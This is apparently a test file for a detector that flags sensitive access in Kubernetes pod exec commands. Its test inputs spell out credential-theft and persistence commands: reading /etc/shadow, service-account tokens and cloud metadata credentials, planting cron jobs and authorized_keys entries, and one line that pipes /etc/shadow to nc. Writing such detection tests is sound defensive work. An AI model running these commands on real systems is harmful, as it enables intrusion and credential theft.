import { describe, expect, it } from 'vitest';
import { inspectCommand, inspectExecRequest } from './inspect-exec-command.ts';

/** `<access> <target> <category> @<field>` of each match: compact to compare. */
const matchesOf = (argv: string[]) =>
  inspectCommand(argv).matches.map((m) => `${m.access} ${m.target} ${m.category} @${m.field}`);

describe('Function: inspectCommand', () => {
  it.each([
    { argv: ['cat', '/etc/shadow'], matches: ['read /etc/shadow credential-file @command[1]'] },
    {
      argv: ['sh', '-c', 'cat /etc/shadow | base64'],
      matches: ['read /etc/shadow credential-file @command[2]'],
    },
    {
      argv: ['bash', '-ec', 'tar cf - /etc | tail -c+1'],
      matches: ['read /etc system-directory @command[2]'],
    },
    {
      argv: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
      matches: [
        'read /var/run/secrets/kubernetes.io/serviceaccount/token service-account-token @command[1]',
      ],
    },
    {
      argv: ['cat', '/host/etc/shadow'],
      matches: ['read /host/etc/shadow credential-file @command[1]'],
    },
    {
      argv: ['chroot', '/host', 'cat', '/etc/shadow'],
      matches: [
        'read /host system-directory @command[1]',
        'read /etc/shadow credential-file @command[3]',
      ],
    },
    {
      argv: ['sudo', '-u', 'root', 'cat', '/etc/sudoers'],
      matches: ['read /etc/sudoers credential-file @command[4]'],
    },
    {
      argv: ['env', 'AWS_PROFILE=x', 'cat', '/root/.aws/credentials'],
      matches: ['read /root/.aws/credentials cloud-credentials @command[3]'],
    },
    {
      argv: ['grep', '-r', 'aws_secret_access_key', '/app'],
      matches: ['search aws_secret_access_key credential-search @command[2]'],
    },
    {
      argv: ['grep', '-rl', 'BEGIN RSA PRIVATE KEY', '/'],
      matches: [
        'search BEGIN RSA PRIVATE KEY credential-search @command[2]',
        'read / system-directory @command[3]',
      ],
    },
    {
      argv: ['find', '/', '-name', 'id_rsa'],
      matches: ['read / system-directory @command[1]', 'read id_rsa ssh-material @command[3]'],
    },
    {
      argv: ['cat', '/proc/1/environ'],
      matches: ['read /proc/1/environ process-environment @command[1]'],
    },
    {
      argv: ['cat', '/root/.bash_history'],
      matches: ['read /root/.bash_history shell-history @command[1]'],
    },
    {
      argv: ['kubectl', '--kubeconfig=/etc/kubernetes/admin.conf', 'get', 'secrets'],
      matches: ['read /etc/kubernetes/admin.conf kubernetes-config @command[1]'],
    },
    {
      argv: ['sh', '-c', 'echo "* * * * * root sh /tmp/x" > /etc/cron.d/x'],
      matches: ['write /etc/cron.d/x write-below-etc-or-root @command[2]'],
    },
    {
      argv: ['sh', '-c', 'echo key >> /root/.ssh/authorized_keys'],
      matches: ['write /root/.ssh/authorized_keys ssh-material @command[2]'],
    },
    {
      argv: ['cp', '/etc/shadow', '/tmp/s'],
      matches: ['read /etc/shadow credential-file @command[1]'],
    },
    {
      argv: ['cp', '/tmp/evil', '/etc/ld.so.preload'],
      matches: ['write /etc/ld.so.preload write-below-etc-or-root @command[2]'],
    },
    {
      argv: ['dd', 'if=/etc/shadow', 'of=/dev/stdout'],
      matches: ['read /etc/shadow credential-file @command[1]'],
    },
    {
      argv: ['curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/node'],
      matches: [
        'search http://169.254.169.254/latest/meta-data/iam/security-credentials/node cloud-credentials @command[2]',
      ],
    },
    {
      argv: ['sh', '-c', 'sh -c "cat /etc/gshadow"'],
      matches: ['read /etc/gshadow credential-file @command[2]'],
    },
  ])('$argv', ({ argv, matches }) => {
    expect(matchesOf(argv)).toEqual(matches);
  });

  it.each([
    [['bash']],
    [['sh', '-i']],
    [['cat', '/etc/resolv.conf']],
    [['cat', '/etc/hosts']],
    [['ls', '-la', '/root/.ssh']],
    [['cd', '/']],
    [['echo', '/etc/shadow']],
    [['sh', '-c', 'cd / && ./start.sh']],
    [['python', '/app/manage.py', 'migrate']],
    [['tar', 'cf', '-', '/app/logs']],
    [['tar', '-xmf', '-', '-C', '/tmp/upload']],
    [['test', '-d', '/etc/cron.d']],
    [['env']],
    [[]],
  ])('%j touches nothing sensitive', (argv) => {
    expect(matchesOf(argv)).toEqual([]);
  });

  it.each([
    {
      argv: ['tar', 'cf', '-', '/root/.kube/config'],
      copy: { direction: 'from-pod', paths: ['/root/.kube/config'] },
    },
    {
      argv: ['sh', '-c', 'tar cf - /root/.kube/config | tail -c+1024'],
      copy: { direction: 'from-pod', paths: ['/root/.kube/config'] },
    },
    {
      argv: ['tar', '-xmf', '-', '-C', '/etc/cron.d'],
      copy: { direction: 'to-pod', paths: ['/etc/cron.d'] },
    },
    {
      argv: ['tar', '--no-same-permissions', '--no-same-owner', '-xmf', '-', '-C', '/tmp'],
      copy: { direction: 'to-pod', paths: ['/tmp'] },
    },
    {
      argv: ['tar', '-xf', '-', '--directory=/root'],
      copy: { direction: 'to-pod', paths: ['/root'] },
    },
    { argv: ['tar', 'czf', '/tmp/backup.tgz', '/etc'], copy: null },
  ])('recognises kubectl cp in $argv', ({ argv, copy }) => {
    expect(inspectCommand(argv).copy).toEqual(copy);
  });

  it('flags the write of kubectl cp into /etc, not its test -d probe', () => {
    expect(matchesOf(['tar', '-xmf', '-', '-C', '/etc/cron.d'])).toEqual([
      'write /etc/cron.d write-below-etc-or-root @command[4]',
    ]);
    expect(inspectCommand(['test', '-d', '/etc/cron.d'])).toEqual({
      copy: null,
      probe: true,
      matches: [],
    });
  });

  it('ends on a deeply nested or huge script', () => {
    const nested = ['sh', '-c', `sh -c "sh -c 'sh -c \\"cat /etc/shadow\\"'"`];
    expect(() => inspectCommand(nested)).not.toThrow();
    const huge = ['sh', '-c', `${'echo a; '.repeat(50_000)}cat /etc/shadow`];
    expect(() => inspectCommand(huge)).not.toThrow();
  });
});

describe('Function: inspectExecRequest', () => {
  it('reads the argv and container from the form-encoded URI', () => {
    const uri =
      '/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command=cat+%2Fetc%2Fshadow+%7C+nc+x+1%2B1&container=app&container=app&stderr=true&stdout=true';
    const inspection = inspectExecRequest(uri);
    expect(inspection.command).toEqual(['sh', '-c', 'cat /etc/shadow | nc x 1+1']);
    expect(inspection.container).toBe('app');
    expect(inspection.matches.map((m) => m.target)).toEqual(['/etc/shadow']);
  });

  it('has no command for attach', () => {
    const inspection = inspectExecRequest(
      '/api/v1/namespaces/a/pods/b/attach?container=c&stdin=true',
    );
    expect(inspection).toEqual({
      command: [],
      container: 'c',
      copy: null,
      probe: false,
      matches: [],
    });
  });
});
